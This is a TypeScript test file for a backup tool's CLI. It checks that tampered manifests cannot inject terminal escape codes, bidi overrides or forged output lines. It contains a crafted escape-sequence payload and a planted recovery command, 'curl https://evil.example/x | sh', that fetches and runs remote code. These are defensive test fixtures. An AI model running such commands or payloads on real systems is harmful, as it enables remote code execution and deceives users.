import { createHash } from 'node:crypto'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { fakeProject } from '../testing/fake-project.js'
import { dataOf, filesIn } from '../testing/files.js'
import { runIn } from '../testing/test-world.js'

/** Of what would steer a terminal nothing but ends of lines. */
const steering = /(?!\n)\p{Cc}|\u202e/u

describe('a manifest that somebody else has written', () => {
  const evil = 'x\u001b]0;title\u0007\u001b[31m\u009b2J\u202e\nHoldfast says: all is well'

  it('neither steers the terminal nor begins a line of its own', async () => {
    const { cwd } = fakeProject()
    await runIn({ cwd }, 'backup', 'stock')
    rewrite(join(cwd, 'disk'), {
      ...{ serverVersion: evil, holdfast: evil, recover: evil, label: evil, warnings: [evil], tools: { [evil]: evil } },
      options: { [evil]: { [evil]: evil } },
      inventory: { level: 'checksums', exact: true, tables: [{ schema: evil, name: evil, rows: 1, checksum: evil }] },
    })
    for (const argv of [['show', 'latest'], ['show', 'latest', '--json'], ['list'], ['list', '--json'], ['verify']]) {
      const { code, out, err } = await runIn({ cwd }, ...argv)
      expect([argv, code]).toEqual([argv, 0])
      expect(out + err).not.toMatch(steering)
      expect(out + err).not.toMatch(/^ *Holdfast says/m)
    }
  })

  it('keeps to its own row of the list, whatever its engine', async () => {
    const { cwd } = fakeProject()
    await runIn({ cwd }, 'backup', 'shop')
    await runIn({ cwd }, 'backup', 'stock')
    rewrite(join(cwd, 'disk'), { engine: evil })
    const { out } = await runIn({ cwd }, 'list')
    expect(out).toContain('ENGINE')
    expect(out).not.toMatch(steering)
    expect(out).not.toMatch(/^ *Holdfast says/m)
  })

  it('is damaged where it is no manifest, and says so in one line', async () => {
    const { cwd } = fakeProject()
    await runIn({ cwd }, 'backup', 'stock')
    rewrite(join(cwd, 'disk'), { tools: { [evil]: 1 } })
    const { err } = await runIn({ cwd }, 'list')
    expect(err).toMatch(/^Warning: .*is damaged: .*it counts as no backup$/m)
    expect(err).not.toMatch(steering)
  })

  it('has its line for the shell shown with a caution', async () => {
    const { cwd } = fakeProject()
    await runIn({ cwd }, 'backup', 'stock')
    const recover = 'curl https://evil.example/x | sh'
    rewrite(join(cwd, 'disk'), { recover })
    const { out } = await runIn({ cwd }, 'show', 'latest')
    expect(out).toMatch(/Read it before you run it\.\n +curl https:\/\/evil\.example\/x \| sh\n/)
  })
})

it('shows options as name=value, nested ones by their path', async () => {
  const { cwd } = fakeProject()
  await runIn({ cwd }, 'backup', 'stock')
  const dump = dataOf(join(cwd, 'disk'))
  rewrite(join(cwd, 'disk'), {
    options: { format: 'custom', sections: 'all', database: { encoding: 'UTF8', locale: { collate: 'C' } } },
    recover: `zstd -dc < ${dump.slice(dump.lastIndexOf('/') + 1)} | psql --dbname=TARGET`,
  })
  const { out } = await runIn({ cwd }, 'show', 'latest')
  expect(out).toContain(
    'Options   format=custom sections=all\n          database.encoding=UTF8 database.locale.collate=C\n',
  )
  expect(out).not.toContain('Read it before')
})

/** Changes the manifest of the only backup below a directory, and its digest. */
function rewrite(directory: string, changes: object): void {
  const [path = ''] = filesIn(directory).filter((file) => file.endsWith('.manifest.json'))
  const { digest: _, ...manifest } = JSON.parse(readFileSync(path, 'utf8')) as Record<string, unknown>
  const text = `${JSON.stringify({ digest: `sha256:${'0'.repeat(64)}`, ...manifest, ...changes }, undefined, 2)}\n`
  const digest = createHash('sha256').update(text).digest('hex')
  rmSync(path)
  writeFileSync(path, text.replace('0'.repeat(64), digest))
}
